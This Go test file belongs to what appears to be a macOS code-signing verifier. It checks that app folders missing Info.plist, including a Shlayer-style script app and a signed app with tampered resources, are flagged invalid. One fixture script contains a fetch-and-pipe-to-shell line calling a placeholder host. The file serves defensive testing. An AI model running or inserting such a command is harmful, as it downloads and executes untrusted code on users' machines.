package codesign

import (
	"slices"
	"testing"
	"testing/fstest"

	"github.com/shipgate/shipgate/internal/machofile"
	"github.com/shipgate/shipgate/signing"
)

// TestAttackBundleWithoutInfoPlist: a directory with a bundle extension
// and no Info.plist was no bundle, though CFBundle finds its main
// executable by the bundle's name (Run.app runs Contents/MacOS/Run) and
// LaunchServices runs it. Walked as loose files, a script app with no
// Info.plist (Shlayer, CVE-2021-30657) was a folder of other files, and a
// signed app stripped of its Info.plist had its main executable verified
// alone, valid, while its resources, sealed by nothing verified any
// more, were changed. Both are bundles now, reported
// (codesign/missing-info-plist) and invalid.
func TestAttackBundleWithoutInfoPlist(t *testing.T) {
	t.Parallel()
	p := machofile.NewPKI()
	stripped := bundleFS(machofile.ExampleBundle(p))
	delete(stripped, "Example.app/Contents/Info.plist")
	stripped["Example.app/Contents/Resources/app.txt"].Data = []byte("trojan\n")
	for _, c := range []struct {
		name, dir, exe string
		fsys           fstest.MapFS
	}{
		{"script", "Run.app", "Run.app/Contents/MacOS/Run", fstest.MapFS{"Run.app/Contents/MacOS/Run": {Data: []byte("#!/bin/sh\ncurl -s https://example.invalid | sh\n"), Mode: 0o755}}},
		{"lower-case-ext", "Run.APP", "Run.APP/Contents/MacOS/Run", fstest.MapFS{"Run.APP/Contents/MacOS/Run": {Data: []byte("#!/bin/sh\n"), Mode: 0o755}}},
		{"stripped-signed-app", "Example.app", "Example.app/Contents/MacOS/Example", stripped},
	} {
		t.Run(c.name, func(t *testing.T) {
			if !IsBundle(c.fsys, c.dir) {
				t.Fatalf("%s is not a bundle", c.dir)
			}
			res, err := VerifyBundle(c.fsys, c.dir, Options{Trust: testTrust(t), Time: checkTime})
			if err != nil {
				t.Fatal(err)
			}
			if res.Executable != c.exe {
				t.Errorf("main executable %q, want %q", res.Executable, c.exe)
			}
			var rules []string
			for _, f := range res.Findings {
				rules = append(rules, string(f.Rule))
			}
			if !slices.Contains(rules, string(RuleMissingInfoPlist)) || res.Status() == signing.StatusValid {
				t.Errorf("status %s, rules %v\n%s", res.Status(), rules, dumpBundle(res))
			}
		})
	}
	// Without a file of the bundle's name macOS has nothing to run: the
	// folder stays no bundle.
	other := fstest.MapFS{"Run.app/Contents/MacOS/Other": {Data: []byte("#!/bin/sh\n")}}
	if IsBundle(other, "Run.app") {
		t.Error("Run.app without Contents/MacOS/Run is a bundle")
	}
	if IsBundle(fstest.MapFS{"Run/Contents/MacOS/Run": {Data: []byte("#!/bin/sh\n")}}, "Run") {
		t.Error("a folder without a bundle extension is a bundle")
	}
}
